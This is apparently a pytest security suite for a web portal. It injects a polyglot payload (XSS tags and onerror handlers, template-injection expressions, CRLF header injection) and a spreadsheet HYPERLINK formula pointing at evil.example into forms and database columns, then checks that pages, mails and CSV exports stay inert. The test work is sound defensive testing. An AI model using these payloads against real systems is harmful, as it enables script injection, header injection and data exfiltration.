"""Texts of people stay texts (threats.md 14 and 15, ASVS 1.2.1, 1.3.7, 1.3.11): a polyglot goes into every text field of
every form and into every column that holds words of somebody. Then every page, piece, export and mail is looked at."""

import csv
import email
import email.policy
import io

import openpyxl
import pytest
from peewee import IntegrityError, OperationalError, TextField
from selectolax.lexbor import LexborHTMLParser
from werkzeug.datastructures import MultiDict

from models.base import database, write_tx
from models.outbox import Mail
from tests.models import rows
from tests.security import filling, walking
from tests.security.walking import Snapshot, World, signed_in

MARK = "xprobe"
POLYGLOT = (
    f"<{MARK}>\"'><{MARK} {MARK}=1 onx{MARK}=1></title></textarea></script><img src=x onerror={MARK}>"
    "{{1234567*7}}${1234567*7}<%= 1234567*7 %>{0.__class__}%(name)s\u2028\r\nX-Probe: 1\r\n\r\n<p " + f"{MARK}>"
)
FORMULA = "=HYPERLINK(\"http://evil.example/\"&A1)"
ROLES = ("nobody", "viewer", "admin", "owner", "customer")
# Words of the portal itself: with something else in them rows are not what they are.
OWN_WORDS = (
    "_hash", "_key", "_ct", "hash", "sha256", "public_id", "number", "locale", "language", "time_zone", "country", "role", "right",
    "state", "kind", "phase", "template", "media_type", "origin", "wanted", "area", "level", "method", "cause", "batch", "sealed",
    "salt", "challenge", "credential_id", "public_key", "user_handle", "remote_uid", "code", "billing", "purpose", "subject",
    "principal", "key", "source", "hard_quota", "label", "way", "outcome", "thing_kind", "thing_id", "action", "email", "mail",
    "recipient", "wanted_email", "actor_kind", "record_class", "source_table", "readers", "relation", "severity", "resolution",
    "reason_code", "observed_state", "wanted_state", "partner_state", "suspension_level", "made_by", "asked_by", "seconded_by",
    "certificate", "path", "url", "issuer", "step", "waits_for", "verdict", "field", "end_reason",
)  # fmt: skip
FIXED_TABLES = ("terms_version", "installation", "home", "policy_value", "one_time_key", "attempt", "sign_up_draft")


@pytest.fixture
def world(app, cast, clock):
    return World(cast, app.settings, clock.now())


def speaks(text: str) -> list[str]:
    """What the polyglot became, beyond a text."""
    found = ["it was calculated"] if "8641969" in text or "&lt;class" in text else []
    for node in LexborHTMLParser(text).css("*"):
        names = [name for name in node.attributes if MARK in name or name.startswith("on")]
        if node.tag == MARK or names:
            found.append(f"<{node.tag} {' '.join(names)}>")
    return found


def answers_faults(answer, path: str) -> list[str]:
    found = [f"{path}: a header of its own"] if "X-Probe" in answer.headers else []
    found += [f"{path}: 500"] if answer.status_code >= 500 else []
    if answer.mimetype == "text/html" and answer.text:
        found += [f"{path}: {what}" for what in speaks(answer.text)]
    return found


def mails_faults(mail: Mail, whose: str) -> list[str]:
    found = [f"mail {mail.template} of {whose}: {what}" for what in speaks(mail.html)]
    if any(sign in mail.subject + mail.recipient for sign in "\r\n"):
        found.append(f"mail {mail.template} of {whose}: a line break in its head")
    head = email.message_from_string(f"Subject: {mail.subject}\nTo: {mail.recipient}\n\n", policy=email.policy.default)
    if set(head.keys()) != {"Subject", "To"} or len(head["To"].addresses) != 1:
        found.append(f"mail {mail.template} of {whose}: {head.keys()}")
    return found


@pytest.mark.sqlite_only
@pytest.mark.parametrize("role", ROLES)
def test_whatever_is_typed_into_a_form_stays_a_text(app, world, role):
    """One field at a time is worse than all: a refused field keeps others from being stored. Both are sent."""
    before, wrong, sent = Snapshot(), [], 0
    for form in filling.forms_of(app, world, role):
        for names in [form.texts, *([name] for name in form.texts if len(form.texts) > 1)] if form.texts else []:
            before.restore()
            browser = signed_in(app, world, role)
            last = Mail.select().count()
            data = MultiDict(form.filled(**dict.fromkeys(names, POLYGLOT)))
            wrong += answers_faults(browser.post(form.action, data=data, check=False), f"{form} {names}")
            wrong += answers_faults(browser.get(form.page, check=False), f"{form.page} after it")
            sent += 1
            for mail in Mail.select().order_by(Mail.id).offset(last):
                wrong += mails_faults(mail, str(form))
    before.restore()
    assert wrong == []
    assert sent >= 1


def words_of_people() -> list[tuple[str, str]]:
    """Every column that holds what somebody wrote, of every table."""
    return [
        (table._meta.table_name, field.column_name)
        for table in rows.all_tables()
        for field in table._meta.sorted_fields
        if type(field) is TextField
        and not field.unique
        and table._meta.table_name not in FIXED_TABLES
        and not any(field.name == word or (word.startswith("_") and field.name.endswith(word)) for word in OWN_WORDS)
    ]


def write_into_all(text: str) -> list[tuple[str, str]]:
    """The columns that took it; what a rule or a trigger of the database keeps out is out."""
    taken = []
    for table, column in words_of_people():
        try:
            with write_tx():
                database.execute_sql(f'UPDATE "{table}" SET "{column}" = {database.obj.param}', (text,))  # noqa: S608 - own names
            taken.append((table, column))
        except (IntegrityError, OperationalError):
            continue
    return taken


def everything(app, world) -> list[tuple[str, object]]:
    """Every page, piece and file that any role opens."""
    found = []
    for role in ROLES:
        browser = signed_in(app, world, role)
        for way, _side, path in walking.every(app, world, "GET", role=role):
            for piece in (False, True):
                found.append((f"{way} as {role}", browser.get(path, htmx=piece, check=False)))
    return found


@pytest.mark.sqlite_only
def test_whatever_stands_in_the_database_stays_a_text_on_every_page(app, world):
    taken = write_into_all(POLYGLOT)
    assert len(taken) > 40
    wrong, shown = [], 0
    for path, answer in everything(app, world):
        wrong += answers_faults(answer, path)
        shown += f"&lt;{MARK}&gt;" in answer.get_data(as_text=True)
    assert wrong == []
    assert shown > 30, "the texts stand on many pages"


@pytest.mark.sqlite_only
def test_no_cell_of_any_table_file_becomes_a_formula(app, world):
    """Each file is read as programs do, laid into a workbook, and opened again."""
    write_into_all(FORMULA)
    wrong, cells, files = [], 0, 0
    for path, answer in everything(app, world):
        if answer.mimetype != "text/csv" or answer.status_code != 200:
            continue
        files += 1
        table = list(csv.reader(io.StringIO(answer.get_data(as_text=True).removeprefix("\ufeff"))))
        book = openpyxl.Workbook()
        for line in table:
            wrong += [] if len(line) == len(table[0]) else [f"{path}: a line of {len(line)} cells"]
            book.active.append(line)
        kept = io.BytesIO()
        book.save(kept)
        for line in openpyxl.load_workbook(io.BytesIO(kept.getvalue())).active.iter_rows():
            wrong += [f"{path}: {cell.value!r}" for cell in line if cell.data_type == "f"]
            cells += sum(1 for cell in line if FORMULA in str(cell.value))
    assert wrong == []
    assert files >= 4 and cells >= 4, "files with the texts in them"
